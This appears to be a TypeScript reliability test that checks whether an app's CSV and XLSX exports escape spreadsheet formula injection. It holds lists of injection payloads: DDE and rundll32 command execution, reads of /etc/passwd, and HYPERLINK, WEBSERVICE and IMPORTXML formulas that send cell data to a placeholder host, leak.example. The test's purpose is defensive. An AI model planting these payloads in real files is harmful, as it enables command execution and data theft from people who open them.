import { execFileSync, spawnSync } from 'node:child_process';
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, relative } from 'node:path';
import { pathToFileURL } from 'node:url';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { strFromU8, unzipSync } from 'fflate';
import writeExcelFile from 'write-excel-file/node';
import { writeReportSheets } from '../../electron/backend/documents/writing/reportSheets.ts';
import { writeSpreadsheet } from '../../electron/backend/documents/writing/spreadsheet.ts';
import { projectDirectory } from '../../electron/preview/nodeHost.ts';
import { plainDate } from '../../shared/domain/calendarTypes.ts';
import type { ReportContent, ReportFigure } from '../../shared/domain/report/reportContent.ts';
import { openOffice, setUp } from '../helpers/office.ts';
import { below, chanceOf, type Row } from './row.ts';

const starts = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  '==',
  '=+',
  '＝',
  '＋',
  '－',
  '＠',
  "'=",
  "''=",
  '=-',
];
const bodies = [
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://leak.example/?"&A1,"Open")',
  'WEBSERVICE("http://leak.example/"&A1)',
  'IMPORTXML(CONCAT("http://leak.example/",A1),"//a")',
  '1+1',
  'SUM(1,1)*2',
  'DDE("soffice";"/etc/passwd";"x")',
  "'file:///etc/passwd'#$passwd.A1",
  'rundll32|\'URL.dll,OpenURL "http://leak.example"\'!A',
  'A1',
];
const wraps: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text,
  (text) => `${text}";${text}`,
  (text) => `"${text}"`,
  (text) => `x\r\n${text}`,
  (text) => `x,${text}`,
];

const payloadsFrom = (seed: number, count: number): readonly string[] => {
  const chance = chanceOf(seed);
  const pick = <Item>(items: readonly Item[]): Item => items[below(chance, items.length)] as Item;
  const payloads = new Set<string>();
  while (payloads.size < count)
    payloads.add(pick(wraps)(`${pick(starts)}${pick(bodies)}${payloads.size % 7}`));
  return [...payloads];
};

/** Cells that a spreadsheet would run, by what the formats say. */
const formulasIn = (bytes: Uint8Array, format: 'csv' | 'xlsx'): number => {
  if (format === 'csv')
    return (
      parse(Buffer.from(bytes), {
        bom: true,
        relax_column_count: true,
        record_delimiter: ['\r\n', '\n'],
      }) as string[][]
    )
      .flat()
      .filter((cell) => /^[=+\-@\t\r＝＋－＠]/.test(cell)).length;
  const parts = unzipSync(bytes);
  return Object.entries(parts)
    .filter(([name]) => name.startsWith('xl/worksheets/'))
    .reduce((sum, [, sheet]) => sum + (strFromU8(sheet).match(/<f[ >/]/g)?.length ?? 0), 0);
};

/** A report in which every word is a payload. */
const reportOf = (payloads: readonly string[]): ReportContent => {
  const [title = ''] = payloads;
  const figure: ReportFigure = {
    id: 'volumeByQuarter',
    title,
    definition: title,
    base: title,
    rowHeading: title,
    rows: payloads.map((label, index) => ({ key: String(index), label })),
    columns: [{ key: 'one', label: title, shows: 'count' }],
    chart: 'bars',
    cells: payloads.map((payload) => [{ text: payload, label: payload }]),
  };
  return {
    title,
    unitName: title,
    marking: title,
    facts: [...payloads],
    kind: 'internal',
    firstOn: plainDate('2026-04-01'),
    lastOn: plainDate('2026-06-30'),
    sections: [
      {
        id: 'method',
        title,
        paragraphs: [...payloads],
        points: [],
        figures: [figure],
        commentary: [],
        actions: [],
      },
    ],
  };
};

/** The writers of spreadsheets, each of which is tried. */
const tried = ['spreadsheet.ts', 'reportSheets.ts'].map(
  (name) => `electron/backend/documents/writing/${name}`,
);

/** The source files that could make a file for a spreadsheet, but for the writers that are tried. */
const otherWriters = (): readonly string[] => {
  const folders = ['electron', 'shared', 'renderer'].map((name) => join(projectDirectory, name));
  return folders
    .flatMap((folder) => readdirSync(folder, { recursive: true, withFileTypes: true }))
    .filter((entry) => entry.isFile() && /\.tsx?$/.test(entry.name))
    .map((entry) => join(entry.parentPath, entry.name))
    .filter((file) =>
      /from '(csv-stringify|write-excel-file|exceljs|xlsx)|text\/csv/.test(readFileSync(file, 'utf8')),
    )
    .map((file) => relative(projectDirectory, file).replaceAll('\\', '/'))
    .filter((file) => !tried.includes(file));
};

const libreOffice = (): string | undefined =>
  ['soffice', 'libreoffice'].find((name) => spawnSync(name, ['--version'], { stdio: 'ignore' }).status === 0);

/** How many formulas LibreOffice has made of each file. */
const formulasByLibreOffice = (
  program: string,
  folder: string,
  files: readonly string[],
): Readonly<Record<string, number>> => {
  execFileSync(
    program,
    [
      `-env:UserInstallation=${pathToFileURL(join(folder, 'profile')).href}`,
      '--headless',
      '--convert-to',
      'fods',
      '--outdir',
      folder,
      ...files.map((file) => join(folder, file)),
    ],
    { stdio: 'ignore', timeout: 240_000 },
  );
  return Object.fromEntries(
    files.map((file) => {
      const text = readFileSync(join(folder, file.replace(/\.\w+$/, '.fods')), 'utf8');
      return [file, text.match(/table:formula=/g)?.length ?? 0];
    }),
  );
};

export const formulaPayloads: Row = {
  name: 'formula-payloads',
  target: '200 payloads, 0 formulas in CSV and XLSX',
  promise: 'no text of a case becomes a formula in a file for a spreadsheet',
  seed: 20260423,
  run: async (size, say) => {
    const payloads = payloadsFrom(formulaPayloads.seed, 200);
    const folder = mkdtempSync(join(tmpdir(), 'reliability-formulas-'));
    try {
      const rows = [payloads.slice(0, 10), ...payloads.map((payload) => [payload, 'beside', payload])];
      const files: Record<string, Uint8Array> = {};
      for (const format of ['csv', 'xlsx'] as const)
        files[`payloads-${format}.${format}`] = await writeSpreadsheet(rows, format);

      files['report-xlsx.xlsx'] = await writeReportSheets(reportOf(payloads));

      // The same through the desk: into the directory and out again.
      await using office = openOffice();
      await setUp(office);
      let taken = 0;
      for (const name of payloads) {
        const added = await office.try('directory.addAgency', { name, type: 'school' });
        if (added.ok) taken += 1;
      }
      for (const format of ['csv', 'xlsx'] as const) {
        await office.api.directory.exportFile({ format });
        files[`directory-${format}.${format}`] = office.delivered.at(-1)?.bytes ?? new Uint8Array();
      }

      const raw = payloads.map((payload) => [payload]);
      const controls: Record<string, Uint8Array> = {
        'raw-csv.csv': Buffer.from(stringify(raw)),
        'raw-xlsx.xlsx': await writeExcelFile(
          payloads.map((payload) => [
            { value: `=LEN("${payload.replaceAll(/[^A-Za-z]/g, '')}")`, type: 'Formula' },
          ]),
        ).toBuffer(),
      };
      const formatOf = (name: string): 'csv' | 'xlsx' => (name.endsWith('.csv') ? 'csv' : 'xlsx');
      const byFormat = (set: Readonly<Record<string, Uint8Array>>): number =>
        Object.entries(set).reduce((sum, [name, bytes]) => sum + formulasIn(bytes, formatOf(name)), 0);
      const found = byFormat(files);
      const controlFound = Object.entries(controls).map(
        ([name, bytes]) => [name, formulasIn(bytes, formatOf(name))] as const,
      );

      const program = size === 'full' ? libreOffice() : undefined;
      const all = { ...files, ...controls };
      for (const [name, bytes] of Object.entries(all)) writeFileSync(join(folder, name), bytes);
      const opened =
        program === undefined ? undefined : formulasByLibreOffice(program, folder, Object.keys(all));
      if (opened) say(JSON.stringify(opened));
      const sumOf = (names: readonly string[]): number =>
        names.reduce((sum, name) => sum + (opened?.[name] ?? 0), 0);
      const others = otherWriters();
      return {
        measured:
          `${payloads.length} payloads in every place of a table, ${taken} of them through the directory: ${found} formulas by the formats, ` +
          (opened
            ? `${sumOf(Object.keys(files))} made by LibreOffice`
            : size === 'short'
              ? 'LibreOffice left to the full run'
              : 'LibreOffice is not installed here') +
          `; ${others.length} writers beside the two that are tried${others.map((file) => ` ${file}`).join()}`,
        control: `not escaped: ${controlFound.map(([name, count]) => `${name} ${count}`).join(', ')}${opened ? `; by LibreOffice ${sumOf(Object.keys(controls))}` : ''}`,
        ok:
          found === 0 &&
          taken > 50 &&
          others.length === 0 &&
          controlFound.every(([, count]) => count > 50) &&
          (!opened || (sumOf(Object.keys(files)) === 0 && sumOf(Object.keys(controls)) > 50)),
      };
    } finally {
      rmSync(folder, { recursive: true, force: true });
    }
  },
};
